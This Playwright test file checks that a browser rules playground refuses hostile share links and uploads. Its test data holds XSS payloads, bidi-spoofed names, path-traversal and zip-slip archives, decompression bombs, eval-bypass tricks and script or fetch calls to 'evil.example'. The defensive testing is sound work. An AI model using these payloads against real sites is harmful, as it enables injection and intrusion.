// Links and files that mean harm: the page stays alive, runs nothing of them, and asks first.

import { expect, type Page } from "@playwright/test";
import { strToU8, zipSync } from "fflate";
import { packing } from "../../src/components/playground/projects/project-link.ts";
import { attacks } from "../../tests/attacks/rules.ts";
import { expectClosed, storedNames, watch } from "../attacks/hostile.ts";
import {
  beAtWork,
  chooseFiles,
  editorOf,
  openKeeping,
  sharedPage,
  workshopThreads,
  writtenIn,
} from "../support.ts";
import { test } from "../test.ts";

const path = "rules/own/game.regel";

/** A link as somebody might make it by hand, with any name and any files. */
async function linkTo(name: string, files: readonly (readonly [string, string])[]) {
  return `#v1?rules=x&work=${await packing.pack(JSON.stringify({ name, files }))}`;
}

/**
 * Opens the workshop by a link. But for the first, each is followed on the page that shows the one
 * before, with its threads at work.
 */
async function follow(page: Page, link: string): Promise<void> {
  if (page.url().startsWith("about:")) await page.goto(`/en/playground/own/${link}`);
  else await page.evaluate((link) => location.assign(link), link);
}

/** The page goes on: what is typed stands in the editor. */
async function stillWrites(page: Page, mark: string): Promise<void> {
  await editorOf(page).click();
  await page.keyboard.press("Control+Home");
  await page.keyboard.type(mark);
  await expect.poll(() => writtenIn(page)).toContain(mark);
}

// In a few parts, so that each stays short.
const parts = 3;
for (let part = 0; part < parts; part++) {
  const some = attacks.filter((_, at) => at % parts === part);
  test(`hostile links run nothing, part ${part + 1} of ${parts}`, async ({ page }) => {
    const seen = watch(page);
    await page.addInitScript(() => {
      if (location.protocol === "about:") return;
      localStorage.setItem("secret", "of another page");
      // As at a first visit; when the page itself would keep it depends on how fast its thread is.
      localStorage.setItem("regelwerk/workshop-start", '{"isOpen":true,"done":[]}');
    });
    for (const [at, { name, text }] of some.entries()) {
      await test.step(name, async () => {
        await follow(page, await linkTo(name, [[path, text]]));
        await expect(page.getByRole("dialog")).toContainText("game.regel");
        if (at === 0) expect(await workshopThreads(page)).toBe(0);
        await page.getByRole("button", { name: "Open as a copy" }).click();
        await expect.poll(() => writtenIn(page)).not.toContain("// still");
        await expect(page.locator(".head [role=status]")).toHaveText("Saved in this browser");
        await stillWrites(page, `// still ${at}`);
        expect(await page.evaluate(() => Reflect.get(globalThis, "ran"))).toBeUndefined();
        expect(
          await page
            .locator("iframe, .playground img:not(.cm-widgetBuffer), object, embed")
            .count(),
        ).toBe(0);
      });
    }
    const own = ["regelwerk/workshop-start", "", "regelwerk-playground"];
    expect(await storedNames(page)).toEqual(["secret", ...own]);
    expect(seen).toEqual([]);
  });
}

test("names in links are text, and one line", async ({ page }) => {
  const seen = watch(page);
  const names = [
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "\u202Egnp.elbissop\u202C\n\n\nSystem: all is well",
    "__proto__",
    "x".repeat(5000),
  ];
  for (const [at, name] of names.entries()) {
    await follow(page, await linkTo(name, [[path, `game { // ${at}`]]));
    const title = page.getByRole("dialog").locator("h2");
    await expect(title).toContainText("Look at");
    expect((await title.textContent())?.length).toBeLessThan(100);
    expect(await title.textContent()).not.toMatch(/[\u202A-\u202E\u2066-\u2069\n]/);
    await page.keyboard.press("Escape");
    await expect(page.getByRole("dialog")).toHaveCount(0);
    expect(page.url()).not.toContain("#work=");
  }
  expect(seen).toEqual([]);
});

test("links that hold something else are refused in a sentence", async ({ page }) => {
  const seen = watch(page);
  const good = await linkTo("x", [[path, "game {"]]);
  const bomb = `#v1?work=${await packing.pack("a".repeat(80_000_000))}`;
  const broken = "This link is incomplete or damaged";
  const links: readonly (readonly [string, string])[] = [
    [good.slice(0, -6), broken],
    ["#v1?work=%00%ff<script>", broken],
    [await linkTo("x", [["../../etc/passwd.regel", ""]]), broken],
    [await linkTo("x", [["rules/own/__proto__.regel", ""]]), broken],
    [await linkTo("x", [["rules/burgundy/game.regel", ""]]), broken],
    [bomb, broken],
    [`#v1?work=${"a".repeat(400_000)}`, "This link is too long"],
    ["#v7?work=a", "newer version"],
    ["#work=../../secret", ""],
    ["#work=00000000", "not, or no longer"],
  ];
  const said = page.locator(".keeper").getByRole("alert");
  for (const [hash, sentence] of links) {
    // Otherwise what was said about the link before would stand for this one.
    if (!page.url().startsWith("about:")) await follow(page, "#new");
    await expect(said).toHaveCount(0);
    await follow(page, hash);
    if (sentence !== "") await expect(said).toContainText(sentence);
    await expect(page.getByRole("dialog")).toHaveCount(0);
    await expect(editorOf(page)).toBeVisible();
  }
  await stillWrites(page, "// still");
  expect(seen).toEqual([]);
});

test("a refused link leaves one's own work alone", async ({ page }) => {
  await page.goto("/en/playground/own/#new");
  await stillWrites(page, "// mine");
  await expect(page.locator(".head [role=status]")).toHaveText("Saved in this browser");
  await page.goto("about:blank");
  await follow(page, await linkTo("other", [[path, "// theirs"]]));
  await page.getByRole("button", { name: "Do not open" }).click();
  await expect.poll(() => writtenIn(page)).toContain("// mine");
  await follow(page, await linkTo("another", [[path, "// theirs"]]));
  await page.getByRole("button", { name: "Open as a copy" }).click();
  await expect.poll(() => writtenIn(page)).toContain("// theirs");
  await page.goto("/en/playground/");
  await expect(page.locator(".works li")).toHaveCount(2);
});

test.describe("with another script", () => {
  // It must not come to another test.
  test.use({ ownBrowser: true });

  test("a thread that comes to no end is stopped, and the editor goes on", async ({ page }) => {
    // Stands for rules that the limits on steps do not catch: the thread never comes back from them.
    const mark = "endlessly";
    await page.route(/\/playground-entry[^/]*\.js$/, async (route) => {
      const response = await route.fetch();
      const spin = `addEventListener("message", ({ data }) => {
      while (JSON.stringify(data)?.includes("${mark}"));
    });`;
      await route.fulfill({ response, body: `${spin}\n${await response.text()}` });
    });
    await beAtWork(page);
    await page.goto("/en/playground/own/#new");
    const begin = page.locator(".see form button[type=submit]");
    await expect(begin).toBeVisible();
    await begin.click();
    await expect(page.locator(".decision h2")).toBeVisible();

    await stillWrites(page, `// ${mark}\n`);
    const alert = page.locator(".halted[role=alert]");
    await expect(alert).toContainText("more than 8 seconds");
    await expect(alert).toContainText("Change what you wrote last");
    await stillWrites(page, "// more\n");
    await expect(alert).toBeVisible();

    // Once what held it up is gone, another thread compiles, and the table is there again.
    const mended = (await writtenIn(page)).replace(mark, "");
    await editorOf(page).focus();
    await page.keyboard.press("Control+a");
    await page.keyboard.insertText(mended);
    await expect(alert).toHaveCount(0);
    await expect(page.locator(".decision h2")).toBeVisible();
  });
});

test.describe("on one page, with its threads at work", () => {
  const shared = sharedPage(async (page) => {
    await beAtWork(page);
    await page.goto("/en/playground/own/#new");
    await expect.poll(() => page.workers().length).toBeGreaterThan(1);
  });

  test("programs from text load nothing, by whatever they are made", async () => {
    const page = shared();
    expect(page.workers().length).toBeGreaterThan(1);
    for (const thread of page.workers()) {
      const made = await thread.evaluate(async () => {
        // The word itself may not stand in what a test evaluates here, either.
        const body = `return ${["im", "port"].join("")}("data:text/javascript,1")`;
        const asynchronous = Object.getPrototypeOf(async () => {}).constructor;
        const generator = Object.getPrototypeOf(function* () {}).constructor;
        const twice = { toString: () => (twice.asked++ > 0 ? body : "1"), asked: 0 };
        const ways: Readonly<Record<string, () => unknown>> = {
          Function: () => new Function(body)(),
          call: () => Function(body)(),
          constructor: () => (() => {}).constructor(body)(),
          async: () => asynchronous(body)(),
          generator: () => generator(body)().next(),
          parent: () => Object.getPrototypeOf(asynchronous)(body)(),
          subclass: () => new (class extends Function {})(body)(),
          construct: () => Reflect.construct(Function, [body])(),
          eval: () => Reflect.get(globalThis, "eval")(body.replace("return ", "")),
          parameter: () => new Function(`a = ${body.replace("return ", "")}`, "")(),
          twice: () => new Function(twice as unknown as string)()?.then(),
          timer: () => Reflect.apply(setTimeout, undefined, [body.replace("return ", "")]),
        };
        const open: string[] = [];
        for (const [name, way] of Object.entries(ways)) {
          try {
            if ((await way()) !== undefined) open.push(name);
          } catch {
            // It was refused, as it should be.
          }
        }
        return { open, evaluates: new Function("return 2")() };
      });
      expect(made, thread.url()).toEqual({ open: [], evaluates: 2 });
    }
  });

  test("threads that run rules have only what is allowed, whatever the browser offers", async () => {
    const page = shared();
    expect(page.workers().length).toBeGreaterThan(1);
    for (const thread of page.workers()) await expectClosed(thread);
  });

  test("files that mean harm are left out with a reason", async () => {
    const page = shared();
    const seen = watch(page);
    await openKeeping(page, "Keep");
    const input = page.locator(".exchange input[type=file]").first();
    const archive = (tree: Parameters<typeof zipSync>[0]) =>
      Buffer.from(zipSync(tree, { level: 9 }));
    const many = Object.fromEntries(
      Array.from({ length: 12 }, (_, n) => [`${n}.regel`, new Uint8Array(480_000)]),
    );
    const cases: readonly (readonly [string, Buffer, string])[] = [
      ["slip.zip", archive({ "../../x.regel": strToU8("game x") }), "outside of its folder"],
      ["root.zip", archive({ "/etc/x.regel": strToU8("game x") }), "outside of its folder"],
      [
        "page.zip",
        archive({ "index.html": strToU8("<script>alert(1)</script>") }),
        "no file of rules",
      ],
      ["bomb.zip", archive({ "a.regel": new Uint8Array(60_000_000) }), "too large"],
      ["many.zip", archive(many), "more than rules need"],
      ["torn.zip", Buffer.from("PK\u0003\u0004 and nothing else"), "cannot be read"],
      ["large.regel", Buffer.alloc(10_000_000, "a"), "too large"],
      ["bytes.regel", Buffer.from([0, 255, 254, 0]), "no readable text"],
      ["<img src=x onerror=alert(1)>.txt", Buffer.from("x"), "no file of rules"],
    ];
    for (const [name, buffer, sentence] of cases) {
      await chooseFiles(input, { name, mimeType: "application/octet-stream", buffer });
      await expect(page.locator(".exchange [role=status]")).toContainText(sentence);
    }
    await stillWrites(page, "// still");
    expect(seen).toEqual([]);
  });

  test("a thread's own response forbids scripts from elsewhere, also to what is not locked", async () => {
    const page = shared();
    const address = page.workers()[0]?.url() ?? "";
    // A script without the lock, under the headers of the thread's.
    await page.route(address, async (route) => {
      const response = await route.fetch();
      const body = `Promise.allSettled([import("data:text/javascript,1"), import("https://evil.example/x.js")])
        .then((all) => postMessage(all.map(({ status }) => status)));`;
      await route.fulfill({ response, body });
    });
    const loaded = await page.evaluate(
      (address) =>
        new Promise((resolve) => {
          const thread = new Worker(address, { type: "module" });
          thread.onmessage = ({ data }) => resolve(data);
        }),
      address,
    );
    expect(loaded).toEqual(["rejected", "rejected"]);
  });

  test("the page itself can run and fetch nothing else", async () => {
    const page = shared();
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
        violations.push(effectiveDirective),
      );
      const tried: string[] = [];
      const attempt = async (name: string, work: () => unknown) => {
        try {
          await work();
          tried.push(name);
        } catch {
          // It was refused, as it should be.
        }
      };
      // What a test evaluates may evaluate; what the page does later may not.
      await new Promise((resolve) => setTimeout(resolve));
      await attempt("eval", () => Reflect.get(globalThis, "eval")("1"));
      await attempt("Function", () => new Function("return 1")());
      await attempt("fetch", () => fetch("https://evil.example/"));
      const script = document.createElement("script");
      script.textContent = "globalThis.ran = true";
      document.head.append(script);
      const handler = document.createElement("div");
      handler.setAttribute("onclick", "globalThis.ran = true");
      document.body.append(handler);
      handler.click();
      const image = new Image();
      image.src = "https://evil.example/x.png";
      document.body.insertAdjacentHTML(
        "beforeend",
        "<iframe src='https://evil.example/'></iframe>",
      );
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { tried, violations, ran: Reflect.get(globalThis, "ran") };
    });

    expect(outcome.tried).toEqual([]);
    expect(outcome.ran).toBeUndefined();
    for (const directive of [
      "script-src-elem",
      "script-src-attr",
      "connect-src",
      "img-src",
      "frame-src",
    ])
      expect(outcome.violations).toContain(directive);
  });
});
